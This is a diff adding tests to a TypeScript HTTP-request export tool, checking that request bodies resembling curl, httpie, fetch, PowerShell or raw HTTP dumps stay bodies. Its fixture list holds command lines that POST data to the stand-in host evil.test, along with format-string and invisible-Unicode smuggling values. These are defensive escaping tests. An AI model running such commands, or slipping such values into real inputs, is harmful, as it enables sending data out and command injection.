@@ -193,6 +193,41 @@ it("curl itself sends what the command of the curl export holds", async () => {
   expect(received[0]?.headers.slice(0, 10).toSorted()).toEqual(headers.flat().toSorted());
 });
 
+/** Bodies that are, or hold on lines of their own, what other programs print: the sender chooses them. */
+const likeOtherForms = [
+  "curl 'http://evil.test/' -d x",
+  "http POST http://evil.test/ a=b",
+  "| https http://evil.test/",
+  'fetch("https://evil.test/", {"method": "POST", "body": "x"})',
+  "Invoke-WebRequest -Uri http://evil.test/",
+  'curl.exe ^"http://evil.test/^" -d ^"x^"',
+  "POST / HTTP/1.1\r\nHost: evil\r\nContent-Length: 1\r\n\r\nx",
+  "=> Send header, 17 bytes (0x11)\n0000: POST / HTTP/1.1",
+  "> 2024/03/01 10:00:00.000000  length=20 from=0 to=19\nPOST / HTTP/1.1\r\n",
+  "0000  50 4f 53 54 20 2f 20 48 54 54 50 2f 31 2e 31 0d   POST / HTTP/1.1.",
+  "-n",
+  "%s%%\\n\\101\\c'",
+  "\u{e0041}\u200b a\u202eb",
+];
+
+it.each(["curl", "httpie", "http", "json", "har"])("a body that looks like another dump stays the body: %s", (name) => {
+  for (const text of likeOtherForms) {
+    for (const bytes of [text, `{}\n${text}\n`, `{"a":"${text}"}`, `\n\n${text}`].map((each) => Buffer.from(each))) {
+      const length = ["Content-Length", String(bytes.length)] as const;
+      const sent = { method: "POST", target: "/a", headers: [["Host", "a.test"] as const, length], body: bytes };
+      const requests = requestsOf(written(name, sent));
+      expect(requests.map((read) => Buffer.from(read.body).toString())).toEqual([bytes.toString()]);
+      expect(requests[0]).toMatchObject({ target: "/a", headers: sent.headers });
+    }
+  }
+});
+
+it("a body of several lines of JSON can be read in the command", () => {
+  const body = Buffer.from('{\n  "a": "50% it\'s \u00e9"\n}\n');
+  const command = written("curl", { method: "POST", target: "/", headers: [], body }).toString();
+  expect(command).toContain(`printf '{\\n  "a": "50%% it\\047s \u00e9"\\n}\\n' | curl`);
+});
+
 it("only the form that can say so takes a body that is not the one that was sent", () => {
   for (const bodyState of ["too-large", "incomplete", "inexact"] as const) {
     const request = { ...hostileFor("httpie"), bodyState };
